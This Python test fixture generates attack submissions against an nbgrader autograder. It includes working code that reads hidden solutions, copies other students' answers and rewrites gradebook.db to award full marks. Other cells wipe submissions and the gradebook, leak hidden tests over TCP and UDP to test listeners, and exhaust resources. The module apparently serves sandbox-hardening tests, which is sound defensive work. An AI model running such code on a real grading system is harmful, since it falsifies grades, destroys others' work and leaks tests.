"""Submissions that attack the machine that grades them (for ex3_gaussian_kl), for the round trip.

Each ``ATTACKS[name](nb, ctx)`` turns the released notebook into a submission whose answer cells
do what a determined student would do from inside their own cells. ``ctx`` tells them what such a
student would know or guess about the grading machine: ``root`` (the course copy: solutions/,
autograder/ with gradebook.db and submitted/), ``me`` (the student id the submission is graded
as), ``tcp``/``udp`` (ports of listeners the test runs on the host), ``host`` (the host's address
on its network). Every attack also walks up from its working directory, and prints
``ATTACK-RAN <name>: <what it found>`` so that the tests can tell it ran.

The issue's table, then one of our own of each kind:

    reader       exec the solution cells of solutions/ex3_gaussian_kl/ex3_gaussian_kl.ipynb
    copier       exec the answer cells of every other student's submitted ex3 notebook
    writer       sqlite3 on gradebook.db: manual_score = 100 on its own grades
    api-writer   the same through nbgrader's Gradebook API, on every gradebook.db it can find
    vandal       truncate every other student's file under submitted/
    wrecker      delete gradebook.db, autograded/ and feedback/, then write junk over the gradebook
    printer      print every hidden test it can read (IPython's history, the source notebook)
    encoder      the same, base64-encoded and as an HTML display, marked LEAK:
    tcp          connect to 127.0.0.1:<tcp> and send the hidden tests
    udp-lan      UDP to 127.0.0.1:<udp>, TCP to <host>:<tcp> (the host's own network address)
    memory-hog   allocate and touch 6 GiB
    process-hog  start 300 processes
    disk-hog     write 5 GiB into its working folder
    output-hog   print 50 MiB

The answers themselves are correct where the attack cannot gain points (hogs, network, printers):
the attack's cell fails on its limit, and the tests check that the rest is graded as usual.
"""

import json

PREAMBLE = '''import glob as _glob, json as _json, os as _os
_CTX = _json.loads({ctx!r})


def _walk_up(*names):
    """Every existing path <ancestor>/<name> above the working folder and above the course root."""
    found = []
    for start in (_os.getcwd(), _CTX["root"], _os.path.join(_CTX["root"], "autograder")):
        p = _os.path.abspath(start)
        while True:
            for n in names:
                found += [q for q in _glob.glob(_os.path.join(p, n)) if q not in found]
            if _os.path.dirname(p) == p:
                break
            p = _os.path.dirname(p)
    return found


def _hidden_tests():
    """The hidden tests this kernel can read: IPython's history, and the source notebook if visible."""
    marker = "BEGIN HIDDEN" + " TESTS"  # (split: this source is shown in the feedback)
    history = "\\n".join(globals().get("In", []))  # every cell run so far, tests included
    texts = [history] if marker in history else []
    for path in _walk_up("solutions/ex3_gaussian_kl/ex3_gaussian_kl.ipynb"):
        try:
            texts.append(open(path).read())
        except OSError:
            pass
    return "\\n".join(texts)
'''

GAUSSIAN_KL = """
def gaussian_kl(mu, logvar):
    return 0.5 * (mu.pow(2) + logvar.exp() - logvar - 1).sum(-1)
"""


def _set(nb, gid, source):
    for c in nb.cells:
        if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == gid:
            c.source = source
            return nb
    raise KeyError(gid)


def _with(ctx, body):
    return PREAMBLE.format(ctx=json.dumps(ctx)) + "\n" + body


def reader(nb, ctx):
    return _set(
        nb,
        "gaussian_kl",
        _with(
            ctx,
            """found = _walk_up("solutions/ex3_gaussian_kl/ex3_gaussian_kl.ipynb")
print("ATTACK-RAN reader:", found)
for path in found:
    for c in _json.load(open(path))["cells"]:
        md = c.get("metadata", {}).get("nbgrader", {})
        if c["cell_type"] == "code" and md.get("solution"):
            exec("".join(c["source"]), globals())
""",
        ),
    )


def copier(nb, ctx):
    body = """found = [p for p in _walk_up("submitted/*/ex3_gaussian_kl/*.ipynb",
                                    "autograded/*/ex3_gaussian_kl/*.ipynb")
         if f"/{_CTX['me']}/" not in p]
print("ATTACK-RAN copier:", found)
for path in found:
    try:
        cells = _json.load(open(path))["cells"]
    except Exception:
        continue
    for c in cells:
        md = c.get("metadata", {}).get("nbgrader", {})
        if c["cell_type"] == "code" and md.get("solution") and "NotImplementedError" not in "".join(c["source"]):
            try:
                exec("".join(c["source"]), globals())
            except Exception:
                pass
"""
    for gid in ("gaussian_kl", "kl_by_hand", "gaussian_log_likelihood", "squared_error_form"):
        _set(nb, gid, _with(ctx, body))
    return nb


def writer(nb, ctx):
    body = """import sqlite3
found = _walk_up("gradebook.db", "autograder/gradebook.db")
print("ATTACK-RAN writer:", found)
for path in found:
    con = sqlite3.connect(path, timeout=30)
    con.execute(
        "UPDATE grade SET manual_score = 100 WHERE notebook_id IN (SELECT n.id FROM submitted_notebook n "
        "JOIN submitted_assignment a ON n.assignment_id = a.id WHERE a.student_id = ?)", (_CTX["me"],))
    con.commit()
"""
    return _set(nb, "squared_error_form", _with(ctx, body))


def api_writer(nb, ctx):
    body = """found = _walk_up("gradebook.db", "autograder/gradebook.db")
print("ATTACK-RAN api-writer:", found)
from nbgrader.api import Gradebook
for path in found:
    with Gradebook("sqlite:///" + path) as gb:
        sub = gb.find_submission("ex3_gaussian_kl", _CTX["me"])
        for n in sub.notebooks:
            for g in n.grades:
                g.manual_score = g.max_score
        gb.db.commit()
"""
    return _set(nb, "squared_error_form", _with(ctx, body))


def vandal(nb, ctx):
    body = """found = [p for p in _walk_up("submitted/*/*/*") if f"/{_CTX['me']}/" not in p]
print("ATTACK-RAN vandal:", len(found), "files")
for path in found:
    try:
        open(path, "w").close()
    except OSError as err:
        print("could not truncate", path, err)
"""
    return _set(nb, "gaussian_kl", _with(ctx, body))


def wrecker(nb, ctx):
    body = """import shutil
found = _walk_up("gradebook.db", "autograded", "feedback", "autograder/gradebook.db", "autograder/autograded")
print("ATTACK-RAN wrecker:", found)
for path in found:
    try:
        if _os.path.isdir(path):
            shutil.rmtree(path)
        else:
            open(path, "wb").write(b"junk" * 1000)
            _os.remove(path)
    except OSError as err:
        print("could not wreck", path, err)
"""
    return _set(nb, "gaussian_kl", _with(ctx, body))


def printer(nb, ctx):
    body = """text = _hidden_tests()
print("ATTACK-RAN printer:", len(text), "characters")
print(text)
""" + GAUSSIAN_KL.replace("gaussian_kl", "_unused")
    _set(nb, "gaussian_kl", GAUSSIAN_KL)
    return _set(nb, "squared_error_form", _with(ctx, body))


def encoder(nb, ctx):
    body = """import base64
from IPython.display import HTML, display
text = _hidden_tests()
print("ATTACK-RAN encoder:", len(text), "characters")
print("LEAK" + ":" + base64.b64encode(text.encode()).decode())
print(repr(text))
display(HTML("<pre>LEAK" + ":" + text.replace("<", "&lt;") + "</pre>"))
"""
    _set(nb, "gaussian_kl", GAUSSIAN_KL)
    return _set(nb, "squared_error_form", _with(ctx, body))


def tcp(nb, ctx):
    body = """import socket
text = _hidden_tests() or "no hidden tests found"
print("ATTACK-RAN tcp:", len(text), "characters")
try:
    with socket.create_connection(("127.0.0.1", _CTX["tcp"]), timeout=3) as s:
        s.sendall(text.encode())
    print("sent")
except OSError as err:
    print("tcp failed:", err)
"""
    _set(nb, "gaussian_kl", GAUSSIAN_KL)
    return _set(nb, "squared_error_form", _with(ctx, body))


def udp_lan(nb, ctx):
    body = """import socket
text = (_hidden_tests() or "no hidden tests found").encode()
print("ATTACK-RAN udp-lan:", len(text), "bytes")
try:
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(text[:1000], ("127.0.0.1", _CTX["udp"]))
except OSError as err:
    print("udp failed:", err)
try:
    with socket.create_connection((_CTX["host"], _CTX["tcp"]), timeout=3) as s:
        s.sendall(text)
except OSError as err:
    print("lan failed:", err)
"""
    _set(nb, "gaussian_kl", GAUSSIAN_KL)
    return _set(nb, "squared_error_form", _with(ctx, body))


def _hog(nb, ctx, name, body):
    """The correct gaussian_kl first, then the hog in the same cell: its tests still pass."""
    return _set(nb, "gaussian_kl", GAUSSIAN_KL + f'\nprint("ATTACK-RAN {name}")\n' + body)


def memory_hog(nb, ctx):
    return _hog(nb, ctx, "memory-hog", "block = bytearray(6 * 1024**3)\nblock[::4096] = b'x' * len(block[::4096])\n")


def process_hog(nb, ctx):
    body = """import subprocess
children = [subprocess.Popen(["sleep", "30"]) for _ in range(300)]
"""
    return _hog(nb, ctx, "process-hog", body)


def disk_hog(nb, ctx):
    body = """chunk = b"x" * (64 * 1024**2)
with open("big.bin", "wb") as f:
    for _ in range(80):  # 5 GiB
        f.write(chunk)
"""
    return _hog(nb, ctx, "disk-hog", body)


def output_hog(nb, ctx):
    return _hog(nb, ctx, "output-hog", 'for _ in range(50):\n    print("y" * (1024**2))\n')


ATTACKS = {
    "reader": reader,
    "copier": copier,
    "writer": writer,
    "api-writer": api_writer,
    "vandal": vandal,
    "wrecker": wrecker,
    "printer": printer,
    "encoder": encoder,
    "tcp": tcp,
    "udp-lan": udp_lan,
    "memory-hog": memory_hog,
    "process-hog": process_hog,
    "disk-hog": disk_hog,
    "output-hog": output_hog,
}
# attacks that gain nothing even when they work (the answers are correct or absent): the limits
HOGS = {
    "memory-hog": "memory limit",
    "process-hog": "process limit",
    "disk-hog": "disk limit",
    "output-hog": "output limit",
}
